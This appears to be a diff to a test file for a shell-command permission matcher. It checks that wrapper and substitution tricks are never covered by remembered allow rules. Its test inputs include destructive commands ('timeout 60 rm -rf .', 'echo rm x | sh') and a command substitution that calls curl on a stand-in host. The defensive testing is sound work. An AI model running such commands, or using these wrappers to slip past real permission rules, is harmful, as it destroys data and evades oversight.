@@ -1,10 +1,15 @@
 import fs from 'node:fs';
 import path from 'node:path';
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import type { RememberedRule } from '../../../src/domain/remembered-rule.js';
 import { PolicySchema } from '../../../src/policy/policy-file.js';
 import { commandMatchesPrefix, fileRuleMatches, pipelineCoveredBy, rulesAllowing, urlRuleMatches, type RuleTarget } from '../../../src/policy/remembered-rules.js';
+import { loadShellParser } from '../../../src/policy/shell-parser.js';
 import { tempDir } from '../../helpers/temp-dirs.js';
+
+beforeAll(async () => {
+  await loadShellParser();
+});
 
 const at = '2026-01-01T00:00:00.000Z';
 const person = { kind: 'person' } as const;
@@ -128,6 +133,29 @@ describe('command rules on runCommand steps', () => {
     expect(allows('npm test $(curl https://evil.example/x)')).toBe(false);
     expect(allows('npm testing')).toBe(false);
     expect(allows('npm test', '.')).toBe(false);
+    // A line whose programs are not all named is never covered, whatever rules exist for its words.
+    const wrapperRules: RememberedRule[] = [
+      ...rules,
+      { id: 'c3', kind: 'command', prefix: ['timeout', '60'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
+      { id: 'c4', kind: 'command', prefix: ['busybox'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
+      { id: 'c5', kind: 'command', prefix: ['nice'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
+      { id: 'c6', kind: 'command', prefix: ['sh'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
+      { id: 'c7', kind: 'command', prefix: ['echo'], root: path.join(root, 'proj'), maxRisk: 'MEDIUM', createdAt: at, proposer: person },
+    ];
+    for (const command of ['timeout 60 rm -rf .', "busybox sh -c 'rm x'", 'nice rm x', 'echo rm x | sh', "sh -c 'npm test'", 'npm test | sh', 'X=npm; $X test', 'npm test; f() { :; }']) {
+      expect(target(command), command).toBeNull();
+      const resolved = commandRuleTarget({ command, cwd: 'proj' } as never, [root]);
+      expect(resolved ? rulesAllowing(resolved, 'MEDIUM', wrapperRules, [root], path.join(root, 'data'), mine) : null, command).toBeNull();
+    }
+    expect(commandRuleTarget({ argv: ['timeout', '60', 'rm', '-rf', '.'], cwd: 'proj' } as never, [root])).toBeNull();
+    expect(commandRuleTarget({ command: 'npm test', cwd: 'proj', env: { PATH: '/tmp' } } as never, [root])).toBeNull();
+    // A word whose value is unknown ends what a rule prefix may match.
+    expect(target('tee $X log.txt')).toEqual({ kind: 'command', pipeline: [['tee']], cwd: path.join(root, 'proj') });
+    expect(allows('tee $X')).toBe(false);
+    // `npm $X` could be `npm exec …`: no target at all.
+    expect(target('npm $X')).toBeNull();
+    expect(allows('npm $(echo test)')).toBe(false);
+    expect(allows('if true; then npm test; fi')).toBe(false);
     expect(commandRuleTarget({ argv: ['npm', 'test'], cwd: 'proj' } as never, [root])).toEqual({ kind: 'command', pipeline: [['npm', 'test']], cwd: path.join(root, 'proj') });
     expect(commandRuleTarget({ argv: ['npm', 'test'] } as never, [])).toBeNull();
   });
